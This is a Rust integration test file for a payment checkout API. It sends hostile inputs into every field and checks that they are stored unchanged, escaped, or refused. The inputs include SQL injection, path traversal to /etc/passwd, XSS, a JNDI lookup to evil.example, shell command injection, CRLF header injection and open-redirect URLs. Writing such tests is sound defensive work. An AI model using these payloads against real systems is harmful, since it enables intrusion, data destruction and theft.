//! Strange texts in every field: accepted unchanged, or refused with the field's name; never
//! interpreted.

use http::{HeaderValue, Method};
use merchant_test_support::stored::uses_postgres;
use sandbox::DesktopFlow;
use serde_json::{Value, json};

use crate::bench::{Answer, Bench, ORIGIN, SECRET_KEY, call, payment_id, send, start_body, unique};
use crate::dump::tables;
use crate::forger::{bench, bench_with};
use crate::raw::exchange;

/// Texts that some interpreter would execute.
pub(crate) const STRANGE: &[&str] = &[
    "'; DROP TABLE sessions; --",
    "\" OR \"\"=\"",
    "1); DELETE FROM payments WHERE (1=1",
    "%' UNION SELECT secret_hash FROM sessions --",
    "\\'; --",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</title><svg onload=alert(1)>",
    "<!--",
    "]]>",
    "&lt;b&gt; &amp;amp; &#0;",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} #{7*7} <%= 7*7 %>",
    "$(reboot) `reboot` | reboot; reboot && reboot",
    "%0d%0aSet-Cookie: a=b",
    "%00 %n%s%x",
    "=cmd|' /C calc'!A0",
    "\u{202e}gnp.txt\u{2066}",
    "\u{feff}\u{200b}\u{200d}",
    "\u{1f375}\u{1f469}\u{200d}\u{1f467}",
    "龙井\u{20000}\u{10ffff}",
    "a\u{301}\u{301}\u{301}\u{301}",
    "\u{2028}\u{2029}\u{fffd}",
    "null",
    "undefined",
    "NaN",
    "-1",
    "0",
    "1e309",
    "true",
    "[]",
    "{}",
];

/// Texts with control characters, which no field may have.
pub(crate) const CONTROLLED: &[&str] = &[
    "a\r\nSet-Cookie: a=b",
    "a\nb",
    "a\rb",
    "a\0b",
    "a\tb",
    "\u{1b}[2Ja",
    "a\u{7f}",
    "a\u{85}b",
    "\u{8}\u{8}a",
];

/// Encodes any text for a path or a query.
pub(crate) fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Checks that the tables and their content are unchanged.
#[track_caller]
fn assert_whole(bench: &Bench, sessions: u32) {
    let names = tables(&bench.shop.database);
    for table in ["sessions", "payments", "idempotency", "notifications", "refunds", "outbox"] {
        assert!(names.iter().any(|name| name == table), "{table} is gone");
    }
    assert_eq!(bench.shop.stored::<u32>("SELECT count(*) FROM sessions"), sessions);
    if !uses_postgres() {
        assert_eq!(bench.shop.stored::<String>("PRAGMA integrity_check"), "ok");
    }
}

#[tokio::test]
async fn strange_texts_of_an_order_are_stored_unchanged() {
    let bench = bench("").await;
    let mut sessions = 0;
    for text in STRANGE {
        let order_id: String = text.chars().take(64).collect();
        let answer = bench
            .shop
            .create(&unique("k"), json!({ "order_id": order_id, "description": text }))
            .await;
        assert_eq!(answer.status, 201, "{text:?}: {}", answer.text());
        sessions += 1;
        let created: Value = answer.json();
        assert_eq!(created["order_id"], json!(order_id));
        assert_eq!(created["session"]["description"], json!(text));
        let stored: String = bench.shop.stored(
            &format!("SELECT description FROM sessions WHERE id = {}", created["session"]["id"])
                .replace('"', "'"),
        );
        assert_eq!(&stored, text);
        drawn_as_text(created["session"]["hosted_url"].as_str().unwrap(), text).await;
    }
    for text in CONTROLLED {
        for field in ["order_id", "description"] {
            let answer = bench.shop.create(&unique("k"), json!({ field: text })).await;
            let problem = answer.problem(400, "parameter_invalid");
            assert!(problem.detail.starts_with(&format!("`{field}`")), "{text:?}");
        }
    }
    assert_whole(&bench, sessions);
}

/// Checks that the hosted page shows the text and does not interpret it.
async fn drawn_as_text(hosted_url: &str, text: &str) {
    let page = call(Method::GET, hosted_url, &[], "").await.text();
    let escaped = text
        .replace('&', "&#38;")
        .replace('<', "&#60;")
        .replace('>', "&#62;")
        .replace('"', "&#34;")
        .replace('\'', "&#39;");
    assert!(page.contains(&escaped), "{text:?}: {page}");
    for tag in ["<script>", "<img", "<svg onload", "<!--"] {
        assert!(!page.contains(tag), "{text:?}: {page}");
    }
    assert_eq!(page.matches("<script").count(), 1, "only its own, {text:?}: {page}");
}

#[tokio::test]
async fn strange_texts_reach_the_gateways_as_text() {
    for flow in [DesktopFlow::Precreate, DesktopFlow::Page] {
        let bench = bench_with(flow, "").await;
        for text in STRANGE {
            let session = bench.shop.open_with(json!({ "description": text })).await;
            for method in ["alipay", "wechat_pay"] {
                let answer = bench.shop.try_start(&session, &unique("k"), start_body(method)).await;
                assert_eq!(answer.status, 200, "{text:?} for {method}: {}", answer.text());
                assert!(
                    answer.text().contains("\"requires_action\""),
                    "{text:?}: {}",
                    answer.text()
                );
            }
        }
        let amounts = bench.orders().await;
        assert!(amounts.iter().all(|order| order["amount"] == json!(12_800)), "{amounts:?}");
    }
}

#[tokio::test]
async fn strange_return_addresses_are_refused() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    let mut strange: Vec<String> =
        STRANGE.iter().chain(CONTROLLED).map(|text| (*text).to_owned()).collect();
    for text in CONTROLLED {
        strange.push(format!("https://shop.example/{text}"));
    }
    strange.extend(
        [
            "javascript:alert(1)",
            "JavaScript://shop.example/%0aalert(1)",
            "data:text/html,x",
            "vbscript:x",
            "file:///etc/passwd",
            "blob:https://shop.example/1",
            "about:blank",
            "ftp://shop.example/",
            "//shop.example/",
            "/\\shop.example",
            "https:shop.example",
            "https:/shop.example/",
            "https:\\\\shop.example\\",
            "https://shop.example\\@evil.example/",
            "https://user@shop.example/",
            "https://shop.example:pass@evil.example/",
            "https://shop.example /",
            " https://shop.example/",
            "https://shop.example/\u{202e}",
            "https://sh\u{43e}p.example/",
            "https://",
            "https://:443/",
            "https://shop.example:99999/",
        ]
        .map(str::to_owned),
    );
    strange.push(format!("https://shop.example/{}", "a".repeat(2_048)));
    for url in &strange {
        let opened = bench.shop.create(&unique("k"), json!({ "return_url": url })).await;
        assert_eq!(opened.status, 400, "{url:?}: {}", opened.text());
        let problem = opened.problem(400, "parameter_invalid");
        assert!(problem.detail.starts_with("`return_url`"), "{url:?}: {}", problem.detail);
        let mut body = start_body("alipay");
        body["return_url"] = json!(url);
        let problem = bench
            .shop
            .try_start(&session, &unique("k"), body)
            .await
            .problem(400, "parameter_invalid");
        assert!(problem.detail.starts_with("`return_url`"), "{url:?}: {}", problem.detail);
    }
    // Valid addresses of hosts that only look like the shop's.
    for url in [
        "https://shop.example.evil.example/",
        "https://shop.example./",
        "https://xn--shp-0ya.example/",
        "https://shop-example/",
        "http://shop.example/",
        "https://shop.example:8443/",
        "https://evil.example/?https://shop.example/",
        "https://evil.example/#https://shop.example",
    ] {
        let mut body = start_body("alipay");
        body["return_url"] = json!(url);
        bench.shop.try_start(&session, &unique("k"), body).await.problem(400, "parameter_invalid");
    }
    assert_whole(&bench, 1);
    assert_eq!(bench.shop.stored::<u32>("SELECT count(*) FROM payments"), 0);
}

#[tokio::test]
async fn strange_texts_of_a_start_are_refused_or_ignored() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    for text in STRANGE.iter().chain(CONTROLLED) {
        let method = json!({ "payment_method": text, "environment": "desktop" });
        let answer = bench.shop.try_start(&session, &unique("k"), method).await;
        answer.problem(400, "payment_method_unavailable");
        let flow = json!({ "payment_method": "alipay", "environment": "desktop", "flow": text });
        let answer = bench.shop.try_start(&session, &unique("k"), flow).await;
        answer.problem(400, "flow_unavailable");
    }
    // Any environment is accepted, because new apps appear. It is not stored.
    for text in STRANGE.iter().chain(CONTROLLED).take(5) {
        let odd = json!({ "payment_method": "alipay", "environment": text, text.to_owned(): text });
        let answer = bench.shop.try_start(&session, "same", odd).await;
        assert!([200, 409].contains(&answer.status.as_u16()), "{text:?}: {}", answer.text());
    }
    assert_whole(&bench, 1);
}

#[tokio::test]
async fn strange_ids_in_paths_are_not_found() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    let base = &bench.shop.base;
    let key = format!("Bearer {SECRET_KEY}");
    let secret = format!("Bearer {}", session.secret);
    for text in STRANGE.iter().chain(CONTROLLED) {
        let id = encoded(text);
        for (method, path, authorization) in [
            (Method::GET, format!("/v1/checkout/sessions/{id}"), &secret),
            (Method::GET, format!("/v1/checkout/sessions/{id}"), &key),
            (Method::GET, format!("/v1/checkout/sessions/{id}/events"), &secret),
            (Method::POST, format!("/v1/checkout/sessions/{id}/payments"), &secret),
            (Method::POST, format!("/v1/checkout/sessions/{id}/expire"), &key),
            (
                Method::POST,
                format!("/v1/checkout/sessions/{}/payments/{id}/check", session.id),
                &secret,
            ),
            (
                Method::POST,
                format!("/v1/checkout/sessions/{}/payments/{id}/cancel", session.id),
                &secret,
            ),
            (Method::GET, format!("/v1/refunds/{id}"), &key),
            (Method::GET, format!("/v1/checkout/hosted/{id}"), &key),
            (Method::POST, format!("/v1/checkout/hosted/{id}/pay"), &key),
            (Method::GET, format!("/v1/returns/alipay?out_trade_no={id}&sign={id}"), &key),
            (Method::GET, format!("/v1/returns/wechat_pay_oauth?code={id}&state={id}"), &key),
            (Method::GET, format!("/v1/returns/alipay_oauth?auth_code={id}&state={id}"), &key),
            (Method::GET, format!("/v1/reconciliations/{id}"), &key),
            (Method::GET, format!("/v1/refunds?starting_after={id}"), &key),
            (Method::GET, format!("/{id}"), &key),
        ] {
            let headers = [
                ("authorization", authorization.as_str()),
                ("content-type", "application/json"),
                ("idempotency-key", "k"),
            ];
            let answer = call(method, &format!("{base}{path}"), &headers, "{}").await;
            assert!([400, 401, 404].contains(&answer.status.as_u16()), "{path}: {}", answer.text());
            not_echoed(&answer, text);
        }
    }
    assert_whole(&bench, 1);
}

/// Checks that neither headers nor body repeat a text of more than one word.
#[track_caller]
fn not_echoed(answer: &Answer, text: &str) {
    if text.chars().count() > 8 {
        assert!(!answer.text().contains(text), "{text:?}: {}", answer.text());
        let headers = format!("{:?}", answer.headers);
        assert!(!headers.contains(text) && !headers.contains("set-cookie"), "{headers}");
    }
}

#[tokio::test]
async fn strange_headers_are_refused_or_ignored() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    let secret = format!("Bearer {}", session.secret);
    let url = format!("{}/v1/checkout/sessions/{}", bench.shop.base, session.id);
    for text in STRANGE {
        let Ok(value) = HeaderValue::from_str(text) else { continue };
        let Ok(value) = value.to_str().map(str::to_owned) else { continue };
        let headers = [
            ("authorization", secret.as_str()),
            ("origin", &value),
            ("x-request-id", &value),
            ("request-id", &value),
            ("x-forwarded-for", &value),
            ("x-forwarded-host", &value),
            ("forwarded", &value),
            ("accept-language", &value),
            ("last-event-id", &value),
            ("user-agent", &value),
        ];
        let answer = call(Method::GET, &url, &headers, "").await;
        assert_eq!(answer.status, 200, "{}", answer.text());
        assert!(answer.header("request-id").starts_with("req_"), "{:?}", answer.headers);
        assert_eq!(answer.header("access-control-allow-origin"), "", "{text:?}");
        let hosted = answer.json::<Value>()["hosted_url"].as_str().unwrap().to_owned();
        assert_eq!(hosted, session.hosted_url, "no header moves an address");
        let stream =
            send(Method::GET, &format!("{url}/events"), &headers, bytes::Bytes::new()).await;
        assert_eq!(stream.status(), 200);
        // Idempotency keys are visible ASCII; those are accepted unchanged.
        let headers = [
            ("authorization", secret.as_str()),
            ("idempotency-key", &value),
            ("content-type", "application/json"),
        ];
        let body = start_body("wechat_pay").to_string();
        let answer = call(Method::POST, &format!("{url}/payments"), &headers, &body).await;
        let is_key = value.bytes().all(|byte| byte.is_ascii_graphic()) && !value.is_empty();
        if is_key {
            assert_eq!(answer.status, 200, "{text:?}: {}", answer.text());
        } else {
            answer.problem(400, "idempotency_key_invalid");
        }
    }
    for origin in [
        "null",
        "*",
        "https://shop.example.evil.example",
        "https://evil.example/https://shop.example",
        "https://shop.example:443",
        "https://SHOP.example",
        "https://shop.example/",
        "http://shop.example",
        "https://shop.example, https://evil.example",
        "file://",
        "https://shop.example.",
    ] {
        let headers = [("authorization", secret.as_str()), ("origin", origin)];
        let answer = call(Method::GET, &url, &headers, "").await;
        assert_eq!(answer.header("access-control-allow-origin"), "", "{origin}");
    }
    let own = call(Method::GET, &url, &[("authorization", &secret), ("origin", ORIGIN)], "").await;
    assert_eq!(own.header("access-control-allow-origin"), ORIGIN);
    assert_whole(&bench, 1);
    assert_eq!(bench.shop.stored::<u32>("SELECT count(*) FROM payments"), 1);
}

#[tokio::test]
async fn strange_fields_of_the_hosted_page_redirect_to_it() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    let token = session.hosted_url.rsplit('/').next().unwrap();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for text in STRANGE.iter().chain(CONTROLLED) {
        let value = encoded(text);
        for (verb, fields) in [
            ("pay", format!("key={value}&method=cash")),
            ("pay", format!("key=k&method={value}")),
            ("check", format!("payment={value}")),
            ("refresh", format!("payment={value}")),
            ("cancel", format!("payment={value}")),
        ] {
            let url = format!("{}/{verb}", session.hosted_url);
            let answer = call(Method::POST, &url, &form, &fields).await;
            assert_eq!(answer.status, 303, "{verb} {text:?}: {}", answer.text());
            let location = answer.header("location");
            let notice = location.strip_prefix(&format!("../{token}?notice=")).expect(location);
            assert!(
                notice.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_'),
                "{location}"
            );
        }
        let page =
            call(Method::GET, &format!("{}?notice={value}", session.hosted_url), &form, "").await;
        assert_eq!(page.status, 200);
        not_echoed(&page, text);
        let other = call(Method::POST, &format!("{}/{value}", session.hosted_url), &form, "").await;
        assert!([400, 404].contains(&other.status.as_u16()), "{}", other.text());
        not_echoed(&other, text);
    }
    assert_whole(&bench, 1);
    assert_eq!(bench.shop.stored::<u32>("SELECT count(*) FROM payments"), 0);
}

#[tokio::test]
async fn strange_refunds_are_not_found() {
    let bench = bench("").await;
    for text in STRANGE.iter().chain(CONTROLLED) {
        let answer = bench.shop.refund(&unique("k"), json!({ "payment_id": text })).await;
        answer.problem(404, "payment_not_found");
        let currency = json!({ "payment_id": "pay_1", "amount": { "value": 1, "currency": text } });
        let answer = bench.shop.refund(&unique("k"), currency).await;
        assert!([400, 404].contains(&answer.status.as_u16()), "{}", answer.text());
    }
    assert_whole(&bench, 0);
}

#[tokio::test]
async fn texts_of_a_megabyte_are_refused_in_every_field() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    let long = "龙".repeat(350_000);
    for field in ["order_id", "description", "return_url", "payment_methods", "other"] {
        bench
            .shop
            .create(&unique("k"), json!({ field: long }))
            .await
            .problem(413, "body_too_large");
    }
    for field in ["payment_method", "environment", "flow", "return_url", "other"] {
        let mut body = start_body("alipay");
        body[field] = json!(long);
        bench.shop.try_start(&session, &unique("k"), body).await.problem(413, "body_too_large");
    }
    bench
        .shop
        .refund(&unique("k"), json!({ "payment_id": long }))
        .await
        .problem(413, "body_too_large");
    // Long, but short enough to be read.
    let shorter = "a".repeat(60_000);
    for field in ["order_id", "description", "return_url"] {
        bench
            .shop
            .create(&unique("k"), json!({ field: shorter }))
            .await
            .problem(400, "parameter_invalid");
    }
    bench
        .shop
        .refund(&unique("k"), json!({ "payment_id": shorter }))
        .await
        .problem(404, "payment_not_found");
    let key = "k".repeat(60_000);
    bench
        .shop
        .try_start(&session, &key, start_body("alipay"))
        .await
        .problem(400, "idempotency_key_invalid");
    assert_whole(&bench, 1);
}

#[tokio::test]
async fn strange_verbs_and_methods_do_nothing() {
    let bench = bench("").await;
    let session = bench.shop.open().await;
    let payment = payment_id(&bench.shop.start_payment(&session, "wechat_pay").await);
    let before = bench.shop.session(&session).await.revision;
    let path = format!("/v1/checkout/sessions/{}/payments/{payment}", session.id);
    for verb in [
        "approve",
        "complete",
        "succeed",
        "CANCEL",
        "cancel/",
        "cancel%00",
        "cancel;a=b",
        "%63ancel/..",
        "check/../cancel",
    ] {
        let secret = format!("Bearer {}", session.secret);
        let raw = format!(
            "POST {path}/{verb} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nAuthorization: {secret}\r\nContent-Length: 0\r\n\r\n"
        );
        let answer = exchange(&bench.shop.base, raw.into_bytes()).await;
        assert!([400, 404].contains(&crate::raw::status(&answer)), "{verb}: {answer}");
    }
    for method in ["PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "GETT", "get"] {
        let secret = format!("Bearer {}", session.secret);
        let raw = format!(
            "{method} {path}/cancel HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nAuthorization: {secret}\r\nX-HTTP-Method-Override: POST\r\nContent-Length: 0\r\n\r\n"
        );
        let answer = exchange(&bench.shop.base, raw.into_bytes()).await;
        assert!([400, 404, 405].contains(&crate::raw::status(&answer)), "{method}: {answer}");
    }
    assert_eq!(bench.shop.session(&session).await.revision, before);
}
